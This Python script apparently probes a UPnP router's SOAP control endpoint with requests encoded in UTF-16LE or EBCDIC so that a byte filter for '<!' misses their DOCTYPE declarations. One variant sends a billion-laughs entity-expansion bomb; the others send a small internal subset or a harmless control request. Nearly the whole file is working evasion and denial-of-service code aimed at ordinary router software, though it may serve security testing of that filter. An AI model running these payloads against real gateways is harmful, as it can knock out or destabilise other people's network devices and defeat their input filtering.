#!/usr/bin/env python3
"""soap_encoding.py GW [KIND] - SOAP bodies in encodings that hide '<!' from a byte scan.

KIND: utf16-doctype (a DOCTYPE with an internal subset in UTF-16LE), utf16-laughs (billion
laughs in UTF-16LE), utf16-ok (a plain GetExternalIPAddress in UTF-16), ebcdic (IBM037).
Prints the HTTP status, the time taken and the first bytes of the answer."""
import socket, sys, time

gw = sys.argv[1]
kind = sys.argv[2] if len(sys.argv) > 2 else "utf16-doctype"
T = "urn:schemas-upnp-org:service:WANIPConnection:2"
env = ('<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>'
       '<u:GetExternalIPAddress xmlns:u="%s">%s</u:GetExternalIPAddress></s:Body></s:Envelope>')
if kind == "utf16-doctype":
    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE s:Envelope [<!ENTITY x "y">]>' + env % (T, "")
    body = b"\xff\xfe" + doc.encode("utf-16-le")
elif kind == "utf16-laughs":
    ents = '<!ENTITY a0 "lollollollollollollollollollol">'
    for i in range(1, 10):
        ents += '<!ENTITY a%d "%s">' % (i, ("&a%d;" % (i - 1)) * 10)
    doc = ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE s:Envelope [%s]>' % ents) + \
        env % (T, '<NewX a="&a9;">&a9;</NewX>')
    body = b"\xff\xfe" + doc.encode("utf-16-le")
elif kind == "utf16-ok":
    doc = '<?xml version="1.0" encoding="UTF-16"?>' + env % (T, "")
    body = b"\xff\xfe" + doc.encode("utf-16-le")
elif kind == "ebcdic":
    doc = '<?xml version="1.0" encoding="IBM037"?><!DOCTYPE s:Envelope [<!ENTITY x "y">]>' + env % (T, "")
    body = doc.encode("cp037")
else:
    sys.exit("unknown kind")
req = ("POST /ctl/IPConn HTTP/1.1\r\nHost: %s:5000\r\nContent-Type: text/xml\r\n"
       "SOAPAction: \"%s#GetExternalIPAddress\"\r\nContent-Length: %d\r\nConnection: close\r\n\r\n"
       % (gw, T, len(body))).encode() + body
print("body bytes", len(body), "contains b'<!':", b"<!" in body)
s = socket.create_connection((gw, 5000), timeout=10)
t0 = time.time()
s.sendall(req)
resp = b""
try:
    while True:
        d = s.recv(65536)
        if not d:
            break
        resp += d
except socket.timeout:
    print("timeout")
print("time %.3fs" % (time.time() - t0))
print(resp[:60].decode("latin1").split("\r\n")[0], "|", resp.split(b"\r\n\r\n", 1)[-1][:400].decode("latin1", "replace"))
